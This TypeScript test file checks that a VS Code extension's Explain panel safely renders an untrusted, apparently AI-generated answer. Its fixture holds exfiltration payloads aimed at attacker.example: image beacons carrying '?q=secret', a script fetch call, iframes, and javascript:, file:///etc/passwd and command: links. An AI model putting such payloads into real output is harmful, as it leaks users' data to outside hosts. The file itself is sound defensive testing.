import assert from 'node:assert/strict';
import { createAnswerRenderer, explainPanelCsp, isOpenableLink, locationHref, locationIndexOf } from '../../../src/core/explain/renderAnswer';

const HOSTILE = [
  '## Summary',
  '',
  'See ![x](https://attacker.example/?q=secret) and ![](http://127.0.0.1:9/leak.png "t").',
  '',
  '<img src="https://attacker.example/raw?q=secret"><script>fetch("https://attacker.example/s")</script>',
  '',
  '<iframe src="https://attacker.example/frame"></iframe><link rel="stylesheet" href="https://attacker.example/c.css">',
  '',
  '[click](javascript:alert(document.cookie)) [v](vbscript:msgbox) [d](data:text/html,<script>1</script>) [f](file:///etc/passwd) [c](command:workbench.action.terminal.new) [rel](./x.ts)',
  '',
  '[docs](https://nodejs.org/api/) <https://expressjs.com/> [mail](mailto:a@b.example)',
  '',
  '[ref][1]',
  '',
  '[1]: https://attacker.example/ref?q=secret',
  '',
  '`<img src=https://attacker.example/code>` and',
  '',
  '```html',
  '<img src="https://attacker.example/fenced">',
  '```',
].join('\n');

describe('Explain panel rendering of an untrusted answer', () => {
  const html = createAnswerRenderer()(HOSTILE);

  it('produces no element that can load anything: no img, script, iframe, link, style, src or href', () => {
    for (const tag of ['<img', '<script', '<iframe', '<link', '<style', '<object', '<embed', '<video', '<audio', '<source']) {
      assert.ok(!html.includes(tag), `${tag} in ${html}`);
    }
    const tags = [...html.matchAll(/<[a-z][^>]*>/gi)].map((m) => m[0]);
    assert.ok(tags.length > 10);
    for (const tag of tags) {
      assert.doesNotMatch(tag, /\s(src|href|style|srcset|action|formaction|background|on[a-z]+)=/i, tag);
    }
    const names = new Set(tags.map((t) => /^<([a-z0-9]+)/i.exec(t)?.[1]));
    assert.deepEqual([...names].sort(), ['a', 'code', 'h2', 'p', 'pre', 'span']);
  });

  it('keeps images and raw HTML readable as text', () => {
    assert.match(html, /\[image: x — https:\/\/attacker\.example\/\?q=secret\]/);
    assert.match(html, /&lt;img src=&quot;https:\/\/attacker\.example\/raw\?q=secret&quot;&gt;&lt;script&gt;/);
    assert.match(html, /<h2>Summary<\/h2>/);
    assert.match(html, /<pre><code class="language-html">&lt;img/);
  });

  it('turns only http(s) and mailto targets into links, each opened by the extension (data-href)', () => {
    const targets = [...html.matchAll(/data-href="([^"]*)"/g)].map((m) => m[1]);
    assert.deepEqual(targets, ['https://nodejs.org/api/', 'https://expressjs.com/', 'mailto:a@b.example', 'https://attacker.example/ref?q=secret']);
    for (const bad of ['javascript:', 'vbscript:', 'data:text', 'file:', 'command:', './x.ts']) {
      assert.ok(!targets.some((t) => t?.startsWith(bad)), `${bad} became a link`);
      assert.ok(html.includes(`(${bad}`) || html.includes(bad), `${bad} is still shown as text`);
    }
  });

  it('lets the extension open only well-formed http(s) and mailto targets', () => {
    assert.ok(isOpenableLink('https://nodejs.org/api/'));
    assert.ok(isOpenableLink('mailto:a@b.example'));
    for (const bad of ['javascript:alert(1)', ' JavaScript:alert(1)', 'command:workbench.action.terminal.new', 'file:///etc/passwd', 'data:text/html,x', 'https://', '']) {
      assert.ok(!isOpenableLink(bad), bad);
    }
  });

  it('renders location links (Explain Error evidence) for the panel to open, and nothing that only looks like one', () => {
    const out = createAnswerRenderer()(`[src/a.ts:9](${locationHref(0)}) [x](routecraft-location:1/../x) [y](routecraft-location:abc) [z](ROUTECRAFT-location:2x)`);
    const targets = [...out.matchAll(/data-href="([^"]*)"/g)].map((m) => m[1]);
    assert.deepEqual(targets, ['routecraft-location:0']);
    assert.doesNotMatch(out, /\shref=/);
    assert.equal(locationIndexOf(locationHref(12)), 12);
    for (const bad of ['routecraft-location:', 'routecraft-location:-1', 'routecraft-location:1.5', 'https://x/routecraft-location:1', 'routecraft-location:1234567']) {
      assert.equal(locationIndexOf(bad), undefined, bad);
    }
    assert.ok(!isOpenableLink(locationHref(0)), 'never handed to the external opener');
  });

  it('has a CSP that allows nothing remote: no https:, http:, data: or wildcard', () => {
    const csp = explainPanelCsp('https://file+.vscode-resource.vscode-cdn.net', 'abc123');
    const directives = new Map(csp.split(';').map((d) => d.trim()).filter(Boolean).map((d) => [d.split(/\s+/)[0], d.split(/\s+/).slice(1)] as const));
    assert.deepEqual(directives.get('default-src'), ["'none'"]);
    assert.deepEqual(directives.get('img-src'), ['https://file+.vscode-resource.vscode-cdn.net']);
    assert.deepEqual(directives.get('script-src'), ["'nonce-abc123'"]);
    for (const [name, sources] of directives) {
      for (const source of sources) {
        assert.ok(!['https:', 'http:', 'data:', '*', "'unsafe-inline'", "'unsafe-eval'"].includes(source), `${name} allows ${source}`);
      }
    }
    assert.deepEqual(directives.get('form-action'), ["'none'"]);
  });
});
